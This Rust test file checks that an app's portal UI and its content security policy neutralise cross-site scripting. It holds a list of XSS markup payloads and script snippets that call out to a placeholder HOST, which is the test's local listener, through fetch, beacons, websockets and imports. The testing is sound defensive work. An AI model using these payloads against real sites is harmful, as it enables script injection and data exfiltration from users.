//! Payloads in every text field, in every name that is shown, and put straight into the page: none runs, nothing is sent.

use companion_tests::listener::Listener;
use companion_tests::walk::{End, Person, Walk, Witness};
use companion_tests::window::Window;
use companion_tests::world::World;
use companion_tests::{Failure, Outcome};
use kaizala_api::portal::connectors::NAME_LENGTH_LIMIT;
use serde_json::{Value, json};

/// What a payload runs; `HOST` in a payload is the listener's.
const RUN: &str = "top.__ran=1";

/// Markup. Put into a field it must stay text; put into the page it must stay still.
const MARKUP: [&str; 28] = [
    r#"<img src=x onerror="RUN">"#,
    r#"<svg onload="RUN"></svg>"#,
    r#"<details open ontoggle="RUN"><summary>x</summary></details>"#,
    r#"<input autofocus onfocus="RUN">"#,
    r#"<video><source onerror="RUN"></video>"#,
    r#"<svg><animate onbegin="RUN" attributeName=x dur=1s></svg>"#,
    r#"<marquee onstart="RUN">x</marquee>"#,
    r#"<p style="animation:spin 1s" onanimationstart="RUN">x</p>"#,
    r#"<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>"#,
    r"<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>",
    r#"<iframe srcdoc="<script>RUN</script>"></iframe>"#,
    r#"<iframe src="javascript:RUN"></iframe>"#,
    r#"<iframe src="data:text/html,<script>RUN</script>"></iframe>"#,
    r#"<iframe src="http://HOST/frame"></iframe>"#,
    r#"<object data="http://HOST/object"></object>"#,
    r#"<embed src="http://HOST/embed">"#,
    r#"<embed src="data:text/html,<script>RUN</script>">"#,
    r#"<img src="http://HOST/image">"#,
    r#"<img srcset="http://HOST/srcset 1x">"#,
    r#"<picture><source srcset="http://HOST/picture"><img></picture>"#,
    r#"<audio src="http://HOST/audio" autoplay></audio>"#,
    r#"<video poster="http://HOST/poster" src="http://HOST/video" autoplay></video>"#,
    r#"<link rel=stylesheet href="http://HOST/style">"#,
    r"<style>@import url(http://HOST/import); p{background:url(http://HOST/background)}</style><p>x</p>",
    r#"<p style="background:url(http://HOST/inline)">x</p>"#,
    r#"<base href="http://HOST/"><img src="relative">"#,
    r#"<a href="javascript:RUN" class=press>x</a>"#,
    r#"<form action="http://HOST/form" class=send><input name=a value=b></form>"#,
];

/// Script, as it would act after getting a foothold.
const SCRIPTS: [&str; 17] = [
    "const e = document.createElement('script'); e.textContent = 'RUN'; document.body.append(e)",
    "const e = document.createElement('script'); e.src = 'http://HOST/script'; document.body.append(e)",
    "const e = document.createElement('script'); e.src = 'data:text/javascript,RUN'; document.body.append(e)",
    "const e = document.createElement('script'); e.src = URL.createObjectURL(new Blob(['RUN'])); document.body.append(e)",
    "const e = document.createElement('script'); e.type = 'module'; e.textContent = 'RUN'; document.body.append(e)",
    "(0, eval)('RUN')",
    "new Function('RUN')()",
    "setTimeout('RUN', 0)",
    "await import('http://HOST/module')",
    "await fetch('http://HOST/fetch', { mode: 'no-cors' })",
    "const r = new XMLHttpRequest(); r.open('POST', 'http://HOST/xhr'); r.send('x')",
    "new WebSocket('ws://HOST/socket')",
    "new EventSource('http://HOST/events')",
    "navigator.sendBeacon('http://HOST/beacon', 'x')",
    "new Worker(URL.createObjectURL(new Blob(['fetch(\"http://HOST/worker\")'])))",
    "new Image().src = 'http://HOST/pixel'",
    "await new FontFace('x', 'url(http://HOST/font)').load()",
];

/// Puts each piece of markup into the page, gives it time to act, and says which of them the policy stopped.
const INJECT: &str = "
    const [payloads, done] = arguments;
    const stopped = new Set();
    let current = '';
    const note = () => stopped.add(current);
    document.addEventListener('securitypolicyviolation', note);
    (async () => {
        for (current of payloads) {
            const place = document.createElement('div');
            document.body.append(place);
            place.innerHTML = current;
            place.querySelector('.press')?.click();
            place.querySelector('.send')?.submit();
            await new Promise((go) => setTimeout(go, 60));
            place.remove();
        }
        document.removeEventListener('securitypolicyviolation', note);
        done([...stopped]);
    })();
";

/// Types every payload into every text field of the page, and then again what stood there.
const FEED: &str = "
    const [payloads, done] = arguments;
    const kinds = 'input:not([type=checkbox]):not([type=radio]), textarea';
    const put = (field, text) => {
        Object.getOwnPropertyDescriptor(Object.getPrototypeOf(field), 'value').set.call(field, text);
        field.dispatchEvent(new InputEvent('input', { bubbles: true }));
        field.dispatchEvent(new Event('change', { bubbles: true }));
    };
    (async () => {
        let count = 0;
        for (const field of document.querySelectorAll(kinds)) {
            const kept = field.value;
            for (const payload of payloads) {
                put(field, payload);
                await null;
            }
            await new Promise(requestAnimationFrame);
            put(field, kept);
            count += 1;
        }
        done(count);
    })();
";

fn filled(payload: &str, listener: &Listener) -> String {
    payload
        .replace("RUN", RUN)
        .replace("HOST", &listener.authority())
}

/// A person whose every name is a payload.
fn intruder(listener: &Listener) -> Person {
    Person {
        name: filled(MARKUP[0], listener),
        connector: filled(MARKUP[1], listener),
        group: filled(MARKUP[3], listener),
        message: [0, 17]
            .map(|index| filled(MARKUP[index], listener))
            .join(" "),
        ..Person::default()
    }
}

/// Feeds every payload to every text field on the way.
struct Feeder {
    payloads: Vec<String>,
    fields: u64,
}

impl Witness for Feeder {
    async fn see(&mut self, window: &Window<'_>, _page: &str) -> Outcome {
        self.fields += window
            .run_until_called(FEED, vec![json!(self.payloads)])
            .await?
            .as_u64()
            .unwrap_or(0);
        Ok(())
    }
}

/// Nothing ran, and nobody was called.
async fn all_is_quiet(window: &Window<'_>, listener: &Listener, during: &str) -> Outcome {
    let ran = window.run("return window.__ran ?? 0", Vec::new()).await?;
    assert_eq!(ran, 0, "{during}: payloads ran");
    assert_eq!(listener.calls(), 0, "{during}: somebody was called");
    let address = window.client().current_url().await?;
    assert_eq!(
        address.host_str(),
        Some("localhost"),
        "{during}: the page went to {address}"
    );
    Ok(())
}

#[tokio::test]
async fn payloads_in_every_field_and_name_stay_text() -> Outcome {
    let listener = Listener::start()?;
    let world = World::new()?;
    let window = Window::open(&world).await?;
    let mut feeder = Feeder {
        payloads: all(&listener),
        fields: 0,
    };
    let person = intruder(&listener);
    assert_eq!(
        Walk::new(&window, &person)
            .seen_by(&mut feeder)
            .run()
            .await?,
        End::MessageSeen
    );
    assert!(
        feeder.fields >= 10,
        "only {} fields were fed",
        feeder.fields
    );
    all_is_quiet(&window, &listener, "on the walk").await?;

    name_things_so(&window, &feeder.payloads[..MARKUP.len()]).await?;
    for room in ["setup", "connectors", "groups", "settings"] {
        window.click(&format!("nav-{room}")).await?;
        feeder.see(&window, room).await?;
        all_is_quiet(&window, &listener, room).await?;
    }
    let shown = window
        .run(
            "return document.querySelectorAll('img, iframe, object, embed, base').length",
            Vec::new(),
        )
        .await?;
    assert_eq!(shown, 0, "payloads became elements");
    window.close().await
}

/// Connectors and groups whose names and descriptions are the payloads.
async fn name_things_so(window: &Window<'_>, payloads: &[String]) -> Outcome {
    for payload in payloads {
        let name: String = payload.chars().take(NAME_LENGTH_LIMIT).collect();
        let form = json!({ "name": name, "description": payload, "redirectUrl": null, "permissions": ["group-read"] });
        answer(window, "register_connector", json!({ "form": form })).await?;
        answer(
            window,
            "create_group",
            json!({ "form": { "name": name, "welcomeMessage": payload } }),
        )
        .await?;
    }
    Ok(())
}

async fn answer(window: &Window<'_>, command: &str, arguments: Value) -> Outcome<Value> {
    window
        .invoke(command, arguments)
        .await?
        .map_err(|problem| Failure::new(format!("{command}: {problem}")))
}

#[tokio::test]
async fn payloads_put_into_the_page_do_not_run_and_send_nothing() -> Outcome {
    let listener = Listener::start()?;
    let world = World::new()?;
    let window = Window::open(&world).await?;
    window.wait_for("welcome-continue").await?;

    let markup: Vec<String> = MARKUP
        .iter()
        .map(|payload| filled(payload, &listener))
        .collect();
    let stopped = window.run_until_called(INJECT, vec![json!(markup)]).await?;
    all_is_quiet(&window, &listener, "markup").await?;
    // What the policy reports shows that the payloads tried.
    let reported = stopped.as_array().map_or(0, Vec::len);
    assert!(
        reported >= 20,
        "only {reported} were stopped by the policy: {stopped}"
    );

    for script in SCRIPTS {
        let script = filled(script, &listener);
        let act = format!(
            "
            const done = arguments[0];
            (async () => {{ {script} }})().then(() => done('done'), (error) => done(String(error)));
        "
        );
        let end = window.run_until_called(&act, Vec::new()).await?;
        all_is_quiet(&window, &listener, &format!("{script} ({end})")).await?;
    }
    window.close().await
}

fn all(listener: &Listener) -> Vec<String> {
    MARKUP
        .iter()
        .chain(&SCRIPTS)
        .map(|payload| filled(payload, listener))
        .collect()
}
